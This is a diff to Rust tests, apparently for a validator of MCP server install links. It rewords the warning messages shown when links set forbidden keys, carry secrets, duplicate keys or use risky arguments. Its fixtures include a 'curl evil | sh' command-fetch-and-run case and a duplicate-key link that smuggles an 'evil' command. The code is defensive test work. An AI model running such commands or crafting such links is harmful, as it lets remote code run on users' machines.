@@ -56,7 +56,7 @@ fn chatbox_3627_keys_that_start_a_server_are_rejected() {
         let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", key: true })));
         assert_eq!(
             found.notes,
-            [format!("a link may not set these, which are left out: {key:?}")],
+            [format!("a link may not set these, so they are ignored: {key:?}")],
             "the key is ignored in other apps' links"
         );
     }
@@ -90,7 +90,7 @@ fn cherry_studio_17699_only_displayed_settings_are_set() {
     }
     let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "dxtPath": "/tmp/evil" })));
     assert_eq!(found.config.command_line(), "x", "the displayed command is the one that runs");
-    assert_eq!(found.notes, ["a link may not set these, which are left out: \"dxtPath\""], "the ignored key is named");
+    assert_eq!(found.notes, ["a link may not set these, so they are ignored: \"dxtPath\""], "the ignored key is named");
     let extra = format!("{}&trust=true", drawbridge_link("a", &json!({ "command": "x" })));
     assert!(rejection_message(&extra).ends_with("a link may not set \"trust\""), "unknown parameters are rejected");
     assert!(
@@ -102,7 +102,7 @@ fn cherry_studio_17699_only_displayed_settings_are_set() {
 #[test]
 fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
     let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "isActive": true })));
-    assert_eq!(found.notes, ["a link may not set these, which are left out: \"isActive\""], "the switch is not read");
+    assert_eq!(found.notes, ["a link may not set these, so they are ignored: \"isActive\""], "the switch is not read");
     let many = |count: usize| {
         let server = |number| json!({ "name": format!("s{number}"), "command": "x" });
         other_app_link(&(0..count).map(server).collect())
@@ -118,10 +118,10 @@ fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
 
 #[test]
 fn goose_and_5ire_431_arguments_that_run_code_or_share_folders_are_marked() {
-    let code = "runs code that stands in the link or is loaded first";
+    let code = "runs code from the link, or code that it downloads first";
     let source = "takes code from an address, and not from the usual registry";
     let folder = "gives the container a folder, a device or rights of this computer";
-    let shell = "is a shell, which runs whatever its arguments say";
+    let shell = "is a shell, which runs any command in its arguments";
     let cases: &[(&[&str], &[&str])] = &[
         (&["npx", "-c", "curl evil | sh"], &[code]),
         (&["npx", "-y", "--call=evil", "@acme/files"], &[code]),
@@ -218,7 +218,7 @@ fn hermes_87581_exactly_one_of_command_and_http_url_is_required() {
         assert!(found.contains(message), "expected {message:?} for {config}: {found}");
     }
     let twice = "vscode:mcp/install?{\"command\":\"good\",\"command\":\"evil\"}";
-    assert!(rejection_message(twice).contains("\"command\" stands twice"), "duplicate keys are rejected");
+    assert!(rejection_message(twice).contains("\"command\" occurs twice"), "duplicate keys are rejected");
 }
 
 #[test]
@@ -247,7 +247,8 @@ fn secrets_in_links_are_separated_and_not_repeated() {
         &json!({ "command": "x", "env": { "API_KEY": token, "OTHER": token, "REGION": "eu" } }),
     ));
     assert_eq!(local.secrets, ["API_KEY", "OTHER"], "variables are recognized by name or by value");
-    let note = "the link carries what looks like a secret: \"Authorization\"; whoever has the link has it, too";
+    let note =
+        "the link contains values that look like secrets: \"Authorization\"; everyone who has the link can read them";
     assert_eq!(remote.notes, [note], "the user is warned");
     assert!(!format!("{:?}{:?}", remote.notes, local.notes).contains("4eC39"), "the warning doesn't contain the value");
     for config in [
@@ -369,7 +370,7 @@ fn existing_server_is_unchanged() {
     assert_eq!(found.name, "GitHub-2", "the new server gets another name");
     assert_eq!(
         found.notes,
-        ["there is a server \"GitHub\" already, which stays as it is: this one would be added beside it"],
+        ["a server \"GitHub\" exists already and stays unchanged: this one would be added as another server"],
         "the user is notified"
     );
 }
